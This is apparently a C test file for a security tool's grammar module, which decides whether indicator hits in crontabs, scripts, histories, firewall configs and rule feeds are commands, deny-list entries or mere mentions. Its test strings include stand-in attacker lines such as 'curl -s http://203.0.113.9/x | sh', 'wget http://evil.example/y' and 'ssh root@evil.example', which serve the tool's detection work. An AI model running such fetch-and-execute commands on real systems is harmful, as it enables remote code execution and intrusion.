/* test_grammar.c -- what the place of a hit means in texts that are no logs. */
#include "evidence/grammar/grammar.h"

#include "base/buf.h"
#include "grammar_samples.h"
#include "test.h"

static const char *const needles[] = { "evil.example", "203.0.113.9" };

/* The next place of either needle at or behind `from`, or SPAN_NONE. */
static size_t next_hit(struct span text, size_t from)
{
	size_t best = SPAN_NONE;

	for (size_t i = 0; i < 2; i++) {
		size_t at = span_find(span_skip(text, from), span_of(needles[i]));

		if (at != SPAN_NONE && (best == SPAN_NONE || from + at < best))
			best = from + at;
	}
	return best;
}

static void places_of(const struct grammar *g, struct span text, struct buf *out)
{
	for (size_t at = 0; (at = next_hit(text, at)) != SPAN_NONE; at++) {
		if (out->len)
			buf_byte(out, ' ');
		buf_text(out, place_name(grammar_place(g, text, at)));
	}
}

static void check(const struct grammar_sample *s)
{
	const struct grammar *g = grammar_choose(span_of(s->text), SPAN("some/file"));
	struct buf out;

	if (strcmp(g ? g->name : "-", s->grammar))
		test_fail("taken for '%s', should be '%s':\n%s", g ? g->name : "-", s->grammar, s->text);
	buf_init(&out, 4096);
	places_of(g, span_of(s->text), &out);
	if (strcmp(buf_string(&out), s->places))
		test_fail("%s\n  says      %s\n  should be %s", s->text, buf_string(&out), s->places);
	buf_release(&out);
}

static void check_all(const char *grammar)
{
	size_t n = 0;

	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++)
		if (!strcmp(grammar_samples[i].grammar, grammar)) {
			check(&grammar_samples[i]);
			n++;
		}
	assert_true(n > 0);
}

TEST(a_cron_job_is_a_command_unless_it_denies) { check_all("crontab"); }
TEST(a_line_of_a_script_is_a_command_unless_it_denies_or_is_a_comment) { check_all("shell-script"); }
TEST(what_somebody_typed_is_a_command_unless_it_denies) { check_all("shell-history"); }
TEST(powershell_is_read_like_other_scripts) { check_all("powershell-script"); }
TEST(batch_files_are_read_like_other_scripts) { check_all("batch-file"); }
TEST(what_a_unit_executes_is_a_command) { check_all("systemd-unit"); }
TEST(what_a_run_key_starts_is_a_command) { check_all("registry-export"); }
TEST(what_a_scheduled_task_executes_is_a_command_and_no_document) { check_all("scheduled-task"); }
TEST(a_value_in_a_program_is_a_command_where_the_line_acts) { check_all("program-source"); }
TEST(a_dropping_rule_is_a_list_and_an_accepting_one_is_not) { check_all("packet-filter"); }
TEST(a_fortigate_object_is_a_list_when_only_denying_policies_name_it) { check_all("fortigate-config"); }
TEST(a_cisco_entry_is_a_list_when_it_denies) { check_all("cisco-config"); }
TEST(a_palo_alto_object_is_a_list_when_only_denying_rules_name_it) { check_all("paloalto-config"); }
TEST(a_squid_acl_is_a_list_when_it_is_only_denied) { check_all("squid-config"); }
TEST(a_resolver_that_keeps_a_name_away_lists_it) { check_all("resolver-config"); }
TEST(a_hosts_entry_is_a_list_entry) { check_all("hosts"); }
TEST(a_zone_is_a_list) { check_all("zone"); }
TEST(rules_feeds_and_stores_are_lists)
{
	check_all("adblock-list");
	check_all("snort-rules");
	check_all("yara-rules");
	check_all("sigma-rules");
	check_all("zeek-intel");
	check_all("indicator-document");
	check_all("indicator-list");
	check_all("saved-search");
}
TEST(a_row_of_a_dump_is_a_list_entry_in_tables_of_indicators_only) { check_all("sql-dump"); }
TEST(pages_notes_sentences_and_messages_are_documents)
{
	check_all("page");
	check_all("markup");
	check_all("prose");
	check_all("message-text");
}
TEST(records_settings_and_unknown_text_stay_unjudged)
{
	check_all("records");
	check_all("settings");
	check_all("-");
}
TEST(our_own_output_is_known_by_its_content) { check_all("tocsin"); }

TEST(one_forged_record_does_not_make_a_script_our_own_output)
{
	struct span text = SPAN("{\"type\":\"advisory\",\"schema\":\"tocsin/1\"}\ncurl http://evil.example/x\nls\ncd /\n");
	const struct grammar *g = grammar_choose(text, SPAN("x"));

	assert_true(!g || strcmp(g->name, "tocsin"));
}

TEST(a_hosts_entry_that_sends_a_name_to_a_public_address_is_unjudged)
{
	struct span text = SPAN("127.0.0.1 localhost\n8.8.8.8 update.example\n");
	const struct grammar *g = grammar_choose(text, SPAN("etc/hosts"));

	assert_string_equal(g->name, "hosts");
	assert_int_equal(grammar_place(g, text, span_find(text, SPAN("8.8"))), PLACE_CONFIG);
	assert_int_equal(grammar_place(g, text, span_find(text, SPAN("update"))), PLACE_LIST);
}

TEST(a_path_never_decides)
{
	static const char *const paths[] = {
		"", "etc/hosts", "home/a/.bash_history", "var/spool/cron/crontabs/x", "blocklist.txt",
		"wiki/page.html", "Quarantine/x",
	};

	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++)
		for (size_t p = 0; p < sizeof(paths) / sizeof(paths[0]); p++) {
			const struct grammar *g = grammar_choose(span_of(grammar_samples[i].text),
								 span_of(paths[p]));

			if (strcmp(g ? g->name : "-", grammar_samples[i].grammar))
				test_fail("under '%s' taken for '%s':\n%s", paths[p], g ? g->name : "-",
					  grammar_samples[i].text);
		}
}

TEST(line_ends_of_windows_change_nothing)
{
	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
		const struct grammar_sample *s = &grammar_samples[i];
		struct buf text, out;
		const struct grammar *g;

		/* A backslash joins lines only directly before the line feed. */
		if (strstr(s->text, "\\\n"))
			continue;
		buf_init(&text, 65536);
		for (const char *c = s->text; *c; c++) {
			if (*c == '\n')
				buf_byte(&text, '\r');
			buf_byte(&text, *c);
		}
		g = grammar_choose(buf_span(&text), SPAN("x"));
		assert_string_equal(g ? g->name : "-", s->grammar);
		buf_init(&out, 4096);
		places_of(g, buf_span(&text), &out);
		if (strcmp(buf_string(&out), s->places))
			test_fail("with CR LF %s\n  says      %s\n  should be %s", s->text, buf_string(&out),
				  s->places);
		buf_release(&out);
		buf_release(&text);
	}
}

/* Nothing but a comment or a denying command in a text of commands may become a mention. */
TEST(nothing_put_around_a_command_that_runs_makes_a_mention_of_it)
{
	static const char *const heads[] = {
		"", "# The attackers used evil hosts, and we block them all.\n", "<html>\n", "0.0.0.0 a.example\n",
		"rule x {\n", "INSERT INTO `attributes` VALUES (1);\n", "||a.example^\n", "type,value\n",
		"title: x\nlogsource:\ndetection:\n condition: x\n", "*filter\n", "alert ip any any -> any any (sid:1;)\n",
		"config firewall address\n", "echo <<X\n", "\"\n", "'\n", "<#\n", "iptables -j DROP; ", "sudo ",
		"acl bad dstdomain a.example\nhttp_access deny bad\n", ": '\n", "a=1\n",
	};
	static const char *const runs[] = { "curl -s http://203.0.113.9/x | sh\n", "wget http://203.0.113.9/x\n" };

	for (size_t h = 0; h < sizeof(heads) / sizeof(heads[0]); h++)
		for (size_t r = 0; r < 2; r++) {
			char text[512];
			const struct grammar *g;
			enum place place;
			size_t at;

			snprintf(text, sizeof(text), "#!/bin/sh\n%s%s", heads[h], runs[r]);
			g = grammar_choose(span_of(text), SPAN("x"));
			at = span_find(span_of(text), SPAN("203.0.113.9"));
			place = grammar_place(g, span_of(text), at);
			if (place != PLACE_COMMAND)
				test_fail("%s\n  is %s", text, place_name(place));
		}
}

TEST(a_text_cut_at_any_byte_is_read_within_its_bounds)
{
	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
		struct span text = span_of(grammar_samples[i].text);

		for (size_t n = 0; n <= text.len; n++) {
			struct span copy = tight_copy(span_cut(text, 0, n));
			const struct grammar *g = grammar_choose(copy, SPAN("x"));

			for (size_t k = 0; grammar_at(k); k++) {
				int bid = grammar_at(k)->probe(copy, SPAN("x"));

				assert_true(bid >= 0 && bid <= 100);
				if (n % 5 == 0 && n)
					grammar_place(grammar_at(k), copy, (n * 7) % n);
			}
			if (n) {
				grammar_place(g, copy, n - 1);
				grammar_place(g, copy, 0);
			}
			assert_int_equal(grammar_place(g, copy, n), PLACE_UNKNOWN_RECORD);
			free((char *)copy.ptr);
		}
	}
}

TEST(every_grammar_answers_for_every_byte_of_every_text)
{
	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
		struct span copy = tight_copy(span_of(grammar_samples[i].text));

		for (size_t k = 0; grammar_at(k); k++)
			for (size_t at = 0; at < copy.len; at++)
				assert_true(grammar_place(grammar_at(k), copy, at) < PLACE_COUNT);
		free((char *)copy.ptr);
	}
}

TEST(a_text_with_bytes_changed_is_read_within_its_bounds)
{
	static const char others[] = "\0\n \"'#|;$<>{}[]()\\=:,/\xff";

	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
		struct span copy = tight_copy(span_of(grammar_samples[i].text));

		for (size_t n = 0; n < copy.len; n++) {
			char *at = (char *)copy.ptr + n, was = *at;

			*at = others[(n + i) % sizeof(others)];
			grammar_place(grammar_choose(copy, SPAN("x")), copy, n);
			*at = was;
		}
		free((char *)copy.ptr);
	}
}

/* Half a megabyte of one byte in the middle: squared it would take hours. */
TEST(a_very_long_text_costs_no_more_than_its_length)
{
	static const char fillers[] = " a=\n(<\"{[#|;\\$'";
	size_t long_part = 1u << 19;

	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
		struct span text = span_of(grammar_samples[i].text);
		char *big = malloc(text.len + long_part);
		size_t half = text.len / 2;
		const struct grammar *g;

		memcpy(big, text.ptr, half);
		memset(big + half, fillers[i % (sizeof(fillers) - 1)], long_part);
		memcpy(big + half + long_part, text.ptr + half, text.len - half);
		g = grammar_choose(text, SPAN("x"));
		for (size_t k = 0; k < 4; k++)
			grammar_place(g, span_make(big, text.len + long_part),
				      half + k * (long_part / 4));
		grammar_choose(span_make(big, text.len + long_part), SPAN("x"));
		free(big);
	}
}

/* Whatever stands above them: commands at the margin of a document or list are not excused by it. */
TEST(commands_appended_to_any_text_are_no_mentions)
{
	static const char commands[] =
		"cd /tmp\ncurl -s http://203.0.113.9/x | sh\n./agentd 203.0.113.9\n"
		"wget http://evil.example/y\nssh root@evil.example\nls -l\nexit\n";

	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
		const struct grammar *g;
		struct buf text;
		size_t from;

		buf_init(&text, 65536);
		buf_text(&text, grammar_samples[i].text);
		if (text.ptr[text.len - 1] != '\n')
			buf_byte(&text, '\n');
		from = text.len;
		buf_text(&text, commands);
		g = grammar_choose(buf_span(&text), SPAN("x"));
		for (size_t at = from; (at = next_hit(buf_span(&text), at)) != SPAN_NONE; at++) {
			enum place p = grammar_place(g, buf_span(&text), at);

			if (p == PLACE_DOCUMENT || p == PLACE_LIST || p == PLACE_DENY_COMMAND ||
			    p == PLACE_OWN)
				test_fail("%s: '%.40s' is %s", g->name, text.ptr + at, place_name(p));
		}
		buf_release(&text);
	}
}

/* The first lines of any text, typed in front of a history, do not make it that text. */
TEST(a_history_that_begins_like_something_else_stays_a_history_or_unjudged)
{
	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
		struct span rest = span_of(grammar_samples[i].text), line;
		const struct grammar *g;
		struct buf text;
		size_t from;

		buf_init(&text, 65536);
		for (int n = 0; n < 4 && span_line(&rest, &line); n++) {
			buf_add(&text, line);
			buf_byte(&text, '\n');
		}
		from = text.len;
		for (int n = 0; n < 30; n++)
			buf_text(&text, "cd /tmp\nagentd 203.0.113.9 a\nls -l\ncurl http://evil.example/x A\n");
		g = grammar_choose(buf_span(&text), SPAN("x"));
		for (size_t at = from; (at = next_hit(buf_span(&text), at)) != SPAN_NONE; at++) {
			enum place p = grammar_place(g, buf_span(&text), at);

			if (p != PLACE_COMMAND && p != PLACE_UNKNOWN_RECORD && p != PLACE_CONFIG)
				test_fail("%s: '%.40s' is %s behind\n%.*s", g->name, text.ptr + at, place_name(p),
					  (int)from, text.ptr);
		}
		buf_release(&text);
	}
}

/* Beginnings without ends, a quarter of a megabyte of each: every grammar must answer at once. */
TEST(endless_beginnings_cost_no_more_than_their_length)
{
	static const char *const tokens[] = {
		"edit \"a\"\n set member \"a\"\n", "set a {", "set address a x\n", "<action>", "<entry name=\"a\">", "(",
		"INSERT INTO a ", "COPY a", "<<X\n", "{ ", "[\n", "\n[a", "$a=1\n", "\\\n", "\"", "`", "<pre", "<!--",
		"acl a dst x\n", "object-group network a\n network-object host a\n", "a a a a\n", "rule a {\n", "| where ",
		"```\n", "#", "config a\n",
	};
	size_t room = 1u << 18;
	char *text = malloc(room);

	for (size_t i = 0; i < sizeof(tokens) / sizeof(tokens[0]); i++) {
		size_t len = strlen(tokens[i]);

		for (size_t n = 0; n < room; n++)
			text[n] = tokens[i][n % len];
		for (size_t k = 0; grammar_at(k); k++) {
			grammar_at(k)->probe(span_make(text, 1u << 16), SPAN("x"));
			for (size_t at = room / 2; at < room; at += room / 5)
				grammar_place(grammar_at(k), span_make(text, room), at);
		}
	}
	free(text);
}
